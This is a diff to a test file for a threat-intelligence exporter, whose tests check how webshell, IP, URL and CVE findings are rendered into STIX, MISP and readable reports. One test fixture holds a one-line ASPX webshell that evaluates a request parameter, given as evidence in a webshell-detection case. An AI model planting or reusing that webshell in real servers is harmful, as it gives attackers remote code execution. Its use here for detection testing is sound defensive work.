@@ -97,6 +97,7 @@ def test_stix_bundle_parses_back_strictly(documents: list[dict[str, Any]]) -> No
     assert f"[file:hashes.'SHA-256' = '{SHELL_SHA}']" in patterns
     assert "[url:value = 'http://evil.example/x.js?\\'quote\\'']" in patterns  # quotes escaped, still valid
     assert not [p for p in patterns if "not-an-ip" in p]  # hostile text is not an indicator
+    assert not [p for p in patterns if "/ecp/DDI" in p]  # a bare path is no URL indicator
     files = {o.name for o in by_type["file"]}
     assert files == {"supp0rt.aspx", "lsass.dmp"}  # rundll32.exe was used, not brought: never an indicator
     hosts = {i.id: i.name for i in by_type["identity"] if i.identity_class == "system"}
@@ -128,7 +129,7 @@ def test_misp_event_loads_in_pymisp(documents: list[dict[str, Any]]) -> None:
     assert values[("ip-src", "203.0.113.7")].to_ids is True
     assert values[("filename|sha256", f"supp0rt.aspx|{SHELL_SHA}")].to_ids is True
     assert values[("vulnerability", "CVE-2021-27065")].to_ids is False
-    assert all(not a.to_ids for a in event.attributes if a.type == "user-agent")
+    assert all(not a.to_ids for a in event.attributes if a.type in ("user-agent", "uri"))  # context only
     assert not [a for a in event.attributes if "rundll32" in str(a.value)]
     assert "tlp:green" in [t.name for t in event.tags]
     assert event.threat_level_id == 1 and not event.published
@@ -163,6 +164,13 @@ def test_empty_and_partial_documents_render() -> None:
     stix2.parse(render(docs, "stix"), allow_custom=False)
 
 
+def test_long_evidence_is_clipped_for_reading_but_kept_in_json() -> None:
+    hunt = hunt_document()
+    hunt["findings"][0]["evidence"] = "A" * 10_000
+    assert "A" * 10_000 not in render([hunt], "html") and "+6000 characters in the JSON output" in render([hunt], "md")
+    assert "A" * 10_000 in render([hunt], "json")
+
+
 def test_webshells_document_makes_the_file_an_indicator_to_remove() -> None:
     webshells = {
         "schema": "exaudit/1",
@@ -176,7 +184,7 @@ def test_webshells_document_makes_the_file_an_indicator_to_remove() -> None:
                 "severity": "critical",
                 "stage": "persistence",
                 "source": {"path": r"C:\inetpub\wwwroot\aspnet_client\x.aspx", "line": 1},
-                "evidence": "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>",
+                "evidence": '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>',
             }
         ],
         "inputs": [{"path": r"C:\inetpub\wwwroot\aspnet_client\x.aspx", "sha256": "cd" * 32}],
